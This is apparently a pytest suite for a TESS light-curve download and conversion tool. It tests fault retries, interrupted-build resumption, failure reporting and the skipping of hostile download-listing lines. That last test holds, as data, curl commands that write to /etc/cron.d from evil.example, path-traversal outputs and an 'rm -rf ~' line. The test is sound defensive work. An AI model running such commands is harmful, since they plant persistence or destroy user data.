"""Real archives and real users: faults, interruptions, resumes, bad input and hostile listings."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from astropy.table import Table

from build_parent_sample import TGLC_Downloader
from conftest import REPO, assert_contract, assert_same_data, hdf5_values, run_env
from tglc_builder import layout
from tglc_builder.folders import exclusive
from tglc_builder.demo import LocalArchive

SCRIPT = str(REPO / "build_parent_sample.py")


def _args(tmp_path: Path, url: str, *extra: str) -> list[str]:
    return [sys.executable, SCRIPT, "-s", "23", "--tglc_data_path", str(tmp_path / "data"),
            "--hdf5_output_path", str(tmp_path / "out"), "--fits_output_path", str(tmp_path / "fits"),
            "--mast-url", url, *extra]


def _run(tmp_path, url, *extra, timeout=600):
    return subprocess.run(_args(tmp_path, url, *extra), env=run_env(), capture_output=True, text=True,
                          timeout=timeout)


def _catalog(tmp_path, tiny=False):
    name = "s0023-catalog_tiny.hdf5" if tiny else "s0023-catalog.hdf5"
    return Table.read(tmp_path / "data" / "s0023" / name, path="catalog")


def _debris(*roots: Path) -> list[Path]:
    return [p for root in roots if root.exists() for p in root.rglob("*")
            if ".part-" in p.name or ".tmp" in p.name]


def test_faulty_archive_build_completes_exactly(tmp_path):
    faults = {"429": 0.05, "500": 0.05, "truncate": 0.05, "reset": 0.05}
    with LocalArchive(sector=23, n=250, seed=11, faults=faults) as archive:
        downloader = TGLC_Downloader(23, tmp_path / "data", tmp_path / "out", tmp_path / "fits", n_processes=2,
                                     mast_url=archive.url)
        summary = downloader.download_sector()
        requests_per_file = archive.fits_requests()
    assert summary.failures == []
    catalog = _catalog(tmp_path)
    assert summary.downloaded == len(catalog)
    assert_contract(tmp_path / "out", catalog, tmp_path / "fits")
    retried = [path for path, count in requests_per_file.items() if count > 1]
    assert len(retried) >= 0.1 * len(catalog)  # the faults really happened, and were retried
    assert not _debris(tmp_path / "fits", tmp_path / "out")


def _start_build(tmp_path, url, *extra):
    return subprocess.Popen(_args(tmp_path, url, *extra), env=run_env(), stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, text=True, start_new_session=True)


def _wait_for(predicate, process, timeout=120):
    deadline = time.monotonic() + timeout
    while not predicate():
        assert process.poll() is None, process.stderr.read()
        assert time.monotonic() < deadline, "the build never reached the point to interrupt"
        time.sleep(0.05)


def _fits_files(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*.fits")} if root.exists() else set()


@pytest.mark.parametrize("when", ["downloading", "converting"])
def test_sigkill_then_rerun_finishes_identically(tmp_path, when):
    with LocalArchive(sector=23, n=200, seed=5, latency=0.01) as archive:
        reference = tmp_path / "reference"
        assert _run(reference, archive.url, "-n", "2").returncode == 0
        reference_requests = archive.request_count()

        killed = tmp_path / "killed"
        process = _start_build(killed, archive.url, "-n", "2")
        if when == "downloading":
            _wait_for(lambda: len(_fits_files(killed / "fits")) >= 50, process)
        else:
            _wait_for(lambda: any((killed / "out").rglob("*.hdf5*")) if (killed / "out").exists() else False,
                      process)
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        complete = _fits_files(killed / "fits")
        counts_at_kill = archive.fits_requests()

        rerun = _run(killed, archive.url, "-n", "2")
        assert rerun.returncode == 0, rerun.stderr
        counts_after = archive.fits_requests()
    assert archive.request_count() > reference_requests
    # nothing complete was downloaded again
    for path in complete:
        assert counts_after.get(path, 0) == counts_at_kill.get(path, 0), path
    assert_same_data(reference / "out", killed / "out")
    # byte for byte, as the README promises (users publish checksums): the flux compression is deterministic, and
    # each file's mark holds the SHA-256 of the file
    assert _file_bytes(reference / "out", "*.hdf5") == _file_bytes(killed / "out", "*.hdf5")
    assert not _debris(killed / "fits", killed / "out", killed / "data")


def _file_bytes(root: Path, pattern: str) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob(pattern))}


def test_ctrl_c_stops_promptly_without_debris(tmp_path):
    with LocalArchive(sector=23, n=200, seed=5, latency=0.05) as archive:
        process = _start_build(tmp_path, archive.url, "-n", "2")
        _wait_for(lambda: len(_fits_files(tmp_path / "fits")) >= 20, process)
        os.killpg(process.pid, signal.SIGINT)
        started = time.monotonic()
        _, stderr = process.communicate(timeout=60)
        assert time.monotonic() - started < 15
    assert process.returncode == 130, stderr
    assert "rerun the same command" in stderr and "Traceback" not in stderr
    assert not _debris(tmp_path / "fits", tmp_path / "out")


def test_failures_are_reported_and_retried_on_rerun(tmp_path):
    with LocalArchive(sector=23, n=200, seed=2) as archive:
        # an object in the target list but not served: listed, it answers 404, a permanent failure
        served = set(archive.sector.gaia_ids.tolist())
        text = archive.sector.target_list().decode().splitlines()
        header = [c.strip() for c in text[0].lstrip("#").split(",")]
        gaia_column = header.index("GAIADR3_ID")
        absent = next(int(line.split(",")[gaia_column]) for line in text[1:]
                      if int(line.split(",")[gaia_column]) not in served)
        missing_path = layout.lc_relpath(absent, 23, 1, 1)
    with LocalArchive(sector=23, n=200, seed=2,
                      extra_listing_lines=[f"curl -f --create-dirs --output '{missing_path}' https://x/y"]) as archive:
        catalog_path = tmp_path / "fits"
        # a corrupt file already sitting where a light curve belongs (whole FITS blocks, so it looks complete)
        first = TGLC_Downloader(23, tmp_path / "data", tmp_path / "out", catalog_path, mast_url=archive.url)
        catalog = first.create_sector_catalog(save_catalog=False)
        corrupt = catalog_path / catalog["path"][0]
        corrupt.parent.mkdir(parents=True)
        corrupt.write_bytes(b"SIMPLE  =                    T" + b" " * (2880 - 30))

        result = _run(tmp_path, archive.url, "-n", "2")
        assert result.returncode == 1
        assert "failures.csv" in result.stderr and "rerun" in result.stderr
        with open(tmp_path / "data" / "s0023" / "failures.csv") as f:
            rows = {row["path"]: row for row in csv.DictReader(f)}
        assert set(rows) == {missing_path, catalog["path"][0]}
        assert "404" in rows[missing_path]["reason"] and rows[missing_path]["stage"] == "download"
        assert rows[catalog["path"][0]]["stage"] == "convert"
        assert (catalog_path / "corrupt" / catalog["path"][0]).exists()  # moved aside
        assert not corrupt.exists()

        result = _run(tmp_path, archive.url, "-n", "2")  # the corrupt one is fetched again; the 404 stays
        assert result.returncode == 1
        with open(tmp_path / "data" / "s0023" / "failures.csv") as f:
            assert [row["path"] for row in csv.DictReader(f)] == [missing_path]
    full = _catalog(tmp_path)
    assert_contract(tmp_path / "out", full[[p != missing_path for p in full["path"]]], catalog_path)


def test_hostile_listing_lines_are_skipped(tmp_path):
    hostile = ["curl -f --output '/etc/cron.d/evil' https://evil.example/x",
               "curl -f --output '../../escape.fits' https://evil.example/x",
               "curl -f --output 's0023/cam1-ccd1/0012/3456/7890/1234/../../../../../../../x.fits' http://x",
               "curl -f --output 'ftp://evil.example/s0023/a.fits' x", "sh -c 'rm -rf ~'", "garbage \x07 line"]
    with LocalArchive(sector=23, n=150, seed=4, extra_listing_lines=hostile) as archive:
        result = _run(tmp_path, archive.url, "--tiny")
        assert result.returncode == 0, result.stderr
        assert "6 line(s)" in result.stderr
    rejected = (tmp_path / "data" / "s0023" / "rejected_listing_lines.txt").read_text().splitlines()
    assert len(rejected) == 6
    assert not (tmp_path / "escape.fits").exists() and not (tmp_path.parent / "escape.fits").exists()
    assert all(str(p.resolve()).startswith(str((tmp_path / "fits").resolve())) for p in (tmp_path / "fits").rglob("*"))


def test_bad_target_list_and_disagreeing_listings(tmp_path):
    from tglc_builder.demo import SyntheticSector, write_mirror

    mirror = write_mirror(tmp_path / "mirror", SyntheticSector(23, 60, 3))
    targets = mirror / layout.target_list_relpath(23)
    targets.write_text("#GAIADR3_ID,RA,DEC\n1,2,3\n")  # lacks TIC_ID
    result = _run(tmp_path, str(mirror), "--tiny")
    assert result.returncode == 2
    assert "s0023.csv" in result.stderr and "TIC_ID" in result.stderr and "Traceback" not in result.stderr

    targets.write_text("#GAIADR3_ID,TIC_ID,RA,DEC\n1,2,3.0,4.0\n")  # nothing in common with the bulk script
    result = _run(tmp_path, str(mirror), "--tiny")
    assert result.returncode == 2
    assert "disagree" in result.stderr and "Traceback" not in result.stderr


def test_second_build_on_the_same_folders_is_refused(tmp_path, archive):
    (tmp_path / "out").mkdir()
    with exclusive([tmp_path / "out"]):
        result = _run(tmp_path, archive.url, "--tiny")
    assert result.returncode == 2
    assert "in use by another build" in result.stderr and str(tmp_path / "out") in result.stderr
    assert not [p for p in tmp_path.rglob("*") if "lock" in p.name]  # the lock is on the folder: no lock file


def test_clean_fits_and_overwrite(tmp_path, archive):
    result = _run(tmp_path, archive.url, "--tiny", "--clean-fits")
    assert result.returncode == 0, result.stderr
    assert not _fits_files(tmp_path / "fits")
    first = hdf5_values(tmp_path / "out")
    stamps = {p: p.stat().st_mtime_ns for p in (tmp_path / "out").rglob("*.hdf5")}

    result = _run(tmp_path, archive.url, "--tiny")  # complete pixels are kept as they are
    assert result.returncode == 0, result.stderr
    assert {p: p.stat().st_mtime_ns for p in (tmp_path / "out").rglob("*.hdf5")} == stamps

    result = _run(tmp_path, archive.url, "--tiny", "--overwrite")
    assert result.returncode == 0, result.stderr
    assert all(p.stat().st_mtime_ns != stamps[p] for p in stamps)
    second = hdf5_values(tmp_path / "out")
    assert first.keys() == second.keys()
    assert all(first[f][n].tobytes() == second[f][n].tobytes() for f in first for n in first[f])


def _children(pid: int) -> list[int]:
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(stat.parent.name))
    return found


def test_a_killed_worker_process_is_retried(tmp_path):
    with LocalArchive(sector=23, n=200, seed=5, latency=0.02) as archive:
        reference = tmp_path / "reference"
        assert _run(reference, archive.url, "-n", "2").returncode == 0

        killed = tmp_path / "killed"
        process = _start_build(killed, archive.url, "-n", "2")
        _wait_for(lambda: len(_fits_files(killed / "fits")) >= 30, process)
        workers = [pid for pid in _children(process.pid) if b"multiprocessing" in Path(f"/proc/{pid}/cmdline")
                   .read_bytes() and b"resource_tracker" not in Path(f"/proc/{pid}/cmdline").read_bytes()]
        assert workers, "no worker process found"
        os.kill(workers[0], signal.SIGKILL)  # as the OOM killer would
        _, stderr = process.communicate(timeout=300)
    # the dead worker's units ran again in a new process, so nothing was lost
    assert process.returncode == 0, stderr
    assert "Traceback" not in stderr and "died" in stderr
    assert not (killed / "data" / "s0023" / "failures.csv").exists()
    assert not _debris(killed / "fits", killed / "out")
    assert_same_data(reference / "out", killed / "out")


def test_throttling_pauses_every_worker(tmp_path):
    """A 429 answered to one download makes the others wait too, across the processes of the pool."""
    import _tasks
    from tglc_builder.executor import Executor

    def run(ex, function, tasks):
        return list(ex.run(function, tasks, total=len(tasks), desc="Testing", unit="task", weights=[1] * len(tasks),
                           lost=lambda task, error: pytest.fail(f"{task} lost: {error}")))

    with LocalArchive(sector=23, n=20, seed=1, faults={"429": 1.0}, retry_after=1) as archive, Executor(2) as ex:
        url = f"{archive.url}/{archive.sector.relpath(0)}"
        [(_, took, until)] = run(ex, _tasks.throttled_download, [(url, str(tmp_path / "a.fits"))])
        assert took >= 2 * 0.9  # two answers with Retry-After: 1, both honoured
        assert until > time.time() - 1.5  # and published to the whole pool
        assert (tmp_path / "a.fits").read_bytes() == archive.sector.fits_bytes(0)

        results = run(ex, _tasks.dispatch_throttle,
                      [("pause", (archive.url, 4.0, 1.5)), ("wait", (archive.url, 0.5))])
    [pauser] = [r for r in results if isinstance(r, int)]
    [(waiter, waited, free)] = [r for r in results if isinstance(r, tuple)]
    assert pauser != waiter  # another process of the pool...
    assert free and waited >= 2.5  # ...held back until the pause was over


def test_archive_url_must_be_http(tmp_path):
    result = _run(tmp_path, "ftp://archive.example/tglc", "--tiny")
    assert result.returncode == 2 and "unknown scheme 'ftp'" in result.stderr and "Traceback" not in result.stderr


def test_a_file_that_kills_its_worker_is_named_and_fails_alone(tmp_path, monkeypatch, caplog):
    """A file whose read kills the worker (SIGKILL, as an OOM kill) every time: its unit is run again alone, then
    without it; failures.csv names that file only, and every other row is written. A rerun then finishes."""
    import _tasks
    from helpers.deadly import deadly_sector, failure_rows, written_ids
    from tglc_builder import run
    from tglc_builder.executor import Executor

    args, source, catalog, deadly = deadly_sector(tmp_path, monkeypatch)
    with Executor(2) as executor:
        summary = run.write_outputs(args, catalog, source, executor, build_unit=_tasks.build_unit_with_a_deadly_file)
    rows = failure_rows(tmp_path, summary)
    path = str(catalog["path"][catalog["gaiadr3_id"] == deadly][0])
    assert len(rows) == 1 and rows[0]["gaiadr3_id"] == str(deadly) and rows[0]["path"] == path
    assert "died while reading this file" in rows[0]["reason"] and "SIGKILL" in rows[0]["reason"]
    assert f"reading item(s) {deadly}" in caplog.text  # the driver's log names it too
    others = sorted(int(g) for g in catalog["gaiadr3_id"] if g != deadly)
    assert written_ids(tmp_path / "out") == others and summary.converted == len(others)
    with Executor(2) as executor:  # the file is fine now: the rerun adds its row, carrying the others
        again = run.write_outputs(args, catalog, source, executor)
    assert again.failures == [] and again.complete + again.converted == len(catalog)
    assert written_ids(tmp_path / "out") == sorted(int(g) for g in catalog["gaiadr3_id"])


def test_a_lost_unit_leaves_no_part_file_of_its_downloads(tmp_path):
    """A unit given up on (its worker died twice elsewhere than in one file) fails its rows, and the temporary
    files its killed worker left are removed then, not when each item is fetched again (which may be never)."""
    import numpy as np

    from tglc_builder import run
    from tglc_builder.columns import column_set
    from tglc_builder.executor import WorkerDied
    from tglc_builder.formats.base import Shard
    from tglc_builder.plan import ShardTask
    from tglc_builder.sources.local import LocalSource
    from tglc_builder.units import UnitSettings

    relpaths = ["s0023/cam1-ccd2/0001/a/hlsp_tglc_tess_ffi_gaiaid-11-s0023-cam1-ccd2_tess_v1_llc.fits",
                "s0023/cam1-ccd2/0002/b/hlsp_tglc_tess_ffi_gaiaid-22-s0023-cam1-ccd2_tess_v1_llc.fits"]
    fits_dir = tmp_path / "fits"
    debris, kept = [], []
    for relpath in relpaths:
        dest = fits_dir / relpath
        dest.parent.mkdir(parents=True)
        debris.append(dest.with_name(f".{dest.name}.part-{os.getpid()}-7"))  # a live PID too: the item is lost
        debris[-1].write_bytes(b"half a file")
        kept.append(dest.with_name(f".other.fits.part-{os.getpid()}-7"))  # another item's download in flight
        kept[-1].write_bytes(b"in flight")
    n = len(relpaths)
    shard = Shard(pixel=1, index=1, count=1, gaiadr3_id=np.array([11, 22], np.int64),
                  tic_id=np.zeros(n, np.int64), ra=np.zeros(n), dec=np.zeros(n), cam=np.ones(n, np.int16),
                  ccd=np.full(n, 2, np.int16), path=np.array([p.encode() for p in relpaths]), sector=23)
    settings = UnitSettings(23, LocalSource(str(fits_dir)), str(fits_dir), (), column_set("seed"))
    result = run._lost(([ShardTask(shard, ("hdf5",))], settings), WorkerDied("killed by signal SIGKILL"))
    assert [f.path for f in result.failures] == relpaths and result.sector == 23
    assert not any(p.exists() for p in debris) and all(p.exists() for p in kept)
